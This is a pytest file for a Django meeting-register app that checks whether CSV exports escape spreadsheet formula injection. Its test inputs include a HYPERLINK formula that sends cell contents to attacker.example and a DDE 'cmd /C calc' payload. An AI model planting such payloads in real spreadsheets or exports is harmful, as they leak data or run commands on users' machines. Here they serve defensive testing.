"""Spreadsheet injection: no CSV the register writes carries a live formula, and CSV cells hold plain text."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.core.management import call_command

from igr import safecsv
from igr.register.models import AgendaItem, Meeting

SRC = Path(__file__).resolve().parents[2] / "src" / "igr"
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Agenda")'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1", "-cmd|' /C calc'!A0"]
)
def test_cells_that_start_a_formula_are_written_as_text(cell):
    assert safecsv.neutralise(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell", ["Grŵp Rhyngweinidogol", "", "2023-07-11", "-3", "-1.5", "42", "a=b", "'quoted"]
)
def test_ordinary_cells_and_numbers_are_unchanged(cell):
    assert safecsv.neutralise(cell) == cell
    assert safecsv.neutralise(7) == 7 and safecsv.neutralise(None) is None


def test_the_writers_neutralise_every_cell():
    out = io.StringIO()
    safecsv.writer(out).writerow(["=1+1", "ok"])
    writer = safecsv.DictWriter(out, fieldnames=["a", "b"], extrasaction="ignore")
    writer.writerow({"a": "@x", "b": "fine", "c": "dropped"})
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1+1", "ok"], ["'@x", "fine"]]
    with pytest.raises(ValueError):
        safecsv.DictWriter(io.StringIO(), fieldnames=["a"]).writerow({"b": 1})


def test_no_module_writes_csv_except_through_safecsv():
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if path.name != "safecsv.py"
        and re.search(r"\bcsv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert offenders == []


def _download(client, url: str) -> list[dict[str, str]]:
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    return list(csv.DictReader(io.StringIO(text)))


@pytest.mark.django_db
@pytest.mark.parametrize("lang", ["en", "cy"])
def test_public_meeting_export_has_no_live_formula(client, demo, lang):
    meeting = Meeting.objects.get(reference="img-safety-security-migration/2023-07-11")
    meeting.location_en, meeting.location_cy = FORMULA, "@SUM(1+1)"
    meeting.save()
    rows = {r["reference"]: r for r in _download(client, f"/{lang}/meetings/?format=csv")}
    row = rows[meeting.reference]
    assert row["location_en"] == "'" + FORMULA and row["location_cy"] == "'@SUM(1+1)"
    assert not [cell for r in rows.values() for cell in r.values() if cell and cell[0] in "=+@\t\r"]


@pytest.mark.django_db
def test_search_export_snippets_are_plain_text(client, demo):
    item = AgendaItem.objects.filter(meeting__reference="img-safety-security-migration/2023-07-11").first()
    item.title_en = "Borders & visas: the Home Office's <proposals>"
    item.save()
    call_command("rebuild_search", verbosity=0)
    rows = _download(client, "/en/search/?q=visas&format=csv")
    snippets = [r["snippet"] for r in rows if "visas" in r["snippet"]]
    assert snippets and "Borders & visas: the Home Office's <proposals>" in snippets[0]
    assert not any(re.search(r"&(amp|lt|gt|quot|#x?[0-9a-f]+);", s) for s in snippets)


@pytest.mark.django_db
def test_meetings_command_csv_has_no_live_formula(demo, capsys):
    meeting = Meeting.objects.get(reference="img-safety-security-migration/2023-07-11")
    meeting.location_en = FORMULA
    meeting.save()
    call_command("meetings", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert [r["location_en"] for r in rows if r["reference"] == meeting.reference] == ["'" + FORMULA]
    assert not [v for r in rows for v in r.values() if v and v[0] in "=+@"]
